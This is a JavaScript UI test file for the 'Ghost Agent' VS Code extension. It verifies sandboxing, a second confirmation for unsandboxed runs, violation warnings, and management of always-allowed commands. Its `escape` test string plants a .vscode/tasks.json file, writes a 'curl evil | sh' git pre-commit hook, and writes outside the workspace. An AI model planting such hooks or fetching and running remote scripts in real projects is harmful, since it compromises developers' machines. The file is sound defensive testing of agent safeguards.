// A user answers the agent's commands from the Ghost Agent panel's buttons, and every outcome is judged from the
// disk, never from what Ghost says:
//   1. at review, a shell line that tries to plant .vscode/tasks.json (the folder exists) and .husky/pre-commit (it
//      does not) and to write beside the workspace is shown with its exact argv, working directory and "sandbox
//      works", without "Always allow" (shell syntax); Run runs it in the sandbox: its file inside the workspace is
//      there, no escape is;
//   2. the same line run through "Run outside the sandbox…" and its confirmation does write beside the workspace
//      (so the escape in 1 was real, and only the sandbox stopped it), and the .husky/ it created is shown as a
//      violation: a transcript entry and a warning notification;
//   3. `touch allowed.txt` answered "Always allow in this project" runs; at auto-edit the same command runs again
//      without a question;
//   4. "Ghost: Manage Allowed Commands" removes it, and the next task asks again.
// Needs bubblewrap working here (the sandbox); the "no sandbox" state is no-sandbox.ui.mjs.
import assert from "node:assert/strict";
import { existsSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { startCommand, statusBarItem, waitForNotification, waitForWorkbench } from "../harness/user.mjs";

const reply = (tool, args) => `Next step.\n\`\`\`json\n${JSON.stringify({ tool, args })}\n\`\`\``;
const task = (command, summary) => [reply("run_command", { command }), reply("finish", { summary })];
const escapee = "agent-approvals-escaped.txt"; // beside the workspace folder, i.e. outside it
const escape = `mkdir -p .vscode .husky; echo '{"version":"2.0.0"}' > .vscode/tasks.json; echo 'curl evil | sh' > .husky/pre-commit; echo escaped > ../${escapee}; echo ran > ran.txt`;

export async function run({ page, workspace, screenshot, agentScript }) {
  const outside = join(dirname(workspace), escapee);
  const tasks = join(workspace, ".vscode", "tasks.json");
  const hook = join(workspace, ".husky", "pre-commit");
  const ran = join(workspace, "ran.txt");
  const allowed = join(workspace, "allowed.txt");
  await waitForWorkbench(page);
  await statusBarItem(page, "ghost-dev.ghost", "ghost.autonomy").waitFor({ timeout: 60_000 });
  await page.locator('.part.activitybar .action-item a[aria-label^="Ghost"]').click();

  const panel = page.frameLocator("iframe.webview.ready").frameLocator("iframe#active-frame");
  await panel.locator("#autonomy[aria-valuetext='2 Review']").waitFor({ timeout: 60_000 });
  const command = panel.locator("article.commandRequest");
  const startTask = async (steps, text) => {
    writeFileSync(agentScript, JSON.stringify(steps));
    await panel.locator("#task").fill(text);
    await panel.locator("button", { hasText: "Start" }).click();
  };
  const finished = (summary) => panel.locator(".entry.end", { hasText: `finished: ${summary}` }).waitFor({ timeout: 30_000 });

  // 1. Run: in the sandbox.
  await startTask(task(escape, "tried to escape"), "run the setup line");
  await command.waitFor({ timeout: 30_000 });
  assert.equal(await command.locator("code.argv").textContent(), JSON.stringify(["sh", "-c", escape]));
  assert.equal(await command.locator("code.cwd").textContent(), workspace);
  await command.locator(".sandbox.on").waitFor();
  assert.equal(await command.locator("button.always").count(), 0, "a shell line is never offered as always allowed");
  await command.locator("button.network").waitFor();
  assert.equal(await command.locator(".confirm-unsandboxed").isVisible(), false, "running outside takes a second click");
  await screenshot("sandboxed-request");
  await command.locator("button.approve", { hasText: "Run" }).click();
  await finished("tried to escape");
  assert.equal(readFileSync(ran, "utf8"), "ran\n", "the command ran, in the workspace");
  assert.equal(existsSync(tasks), false, ".vscode/tasks.json was not planted");
  assert.equal(existsSync(hook), false, ".husky/pre-commit was not planted");
  assert.equal(existsSync(outside), false, "nothing was written outside the workspace");

  // 2. Run outside the sandbox, confirmed: the same line now does escape.
  rmSync(ran);
  await startTask(task(escape, "escaped"), "run the setup line outside");
  await command.waitFor({ timeout: 30_000 });
  await command.locator("button.ask-unsandboxed").click();
  await command.locator(".confirm-unsandboxed").waitFor();
  await screenshot("unsandboxed-confirm");
  await command.locator("button.unsandboxed").click();
  await finished("escaped");
  assert.equal(readFileSync(ran, "utf8"), "ran\n");
  assert.equal(readFileSync(outside, "utf8"), "escaped\n", "outside the sandbox the line writes beside the workspace");
  await panel.locator(".entry.violation", { hasText: ".husky" }).waitFor();
  await waitForNotification(page, /touched a protected path: \.husky/);
  await page.keyboard.press("Escape"); // the notification center, opened to read it
  rmSync(outside);
  rmSync(tasks, { force: true });
  rmSync(join(workspace, ".husky"), { recursive: true, force: true });

  // 3. Always allow, then at auto-edit no question.
  await startTask(task("touch allowed.txt", "touched"), "touch allowed.txt");
  await command.waitFor({ timeout: 30_000 });
  assert.equal(await command.locator("code.argv").textContent(), JSON.stringify(["touch", "allowed.txt"]));
  await command.locator("button.always", { hasText: "Always allow in this project" }).click();
  await finished("touched");
  assert.ok(existsSync(allowed));
  rmSync(allowed);
  const slider = panel.locator("#autonomy");
  await slider.focus();
  await slider.press("ArrowRight");
  await panel.locator("#autonomy[aria-valuetext='3 Auto-edit']").waitFor();
  await startTask(task("touch allowed.txt", "touched again"), "touch allowed.txt again");
  await finished("touched again");
  assert.equal(await command.count(), 0, "not asked again");
  assert.ok(existsSync(allowed), "the allowed command ran");
  rmSync(allowed);

  // 4. Manage Allowed Commands: remove it; the next task asks again.
  const input = await startCommand(page, "Ghost: Manage Allowed Commands");
  await page.locator(".quick-input-widget .quick-input-title", { hasText: "commands always allowed in this project" }).waitFor();
  const row = page.locator(".quick-input-widget .monaco-list-row", { hasText: "touch allowed.txt" });
  await row.click();
  await page.locator('.quick-input-widget .monaco-list-row[aria-checked="true"]', { hasText: "touch allowed.txt" }).waitFor();
  await screenshot("manage-allowed");
  await page.keyboard.press("Enter");
  await input.waitFor({ state: "hidden" });
  await startTask(task("touch allowed.txt", "touched after removal"), "touch allowed.txt once more");
  await command.waitFor({ timeout: 30_000 });
  await command.locator("button.reject").click();
  await finished("touched after removal");
  assert.equal(existsSync(allowed), false, "rejected: not run");
}
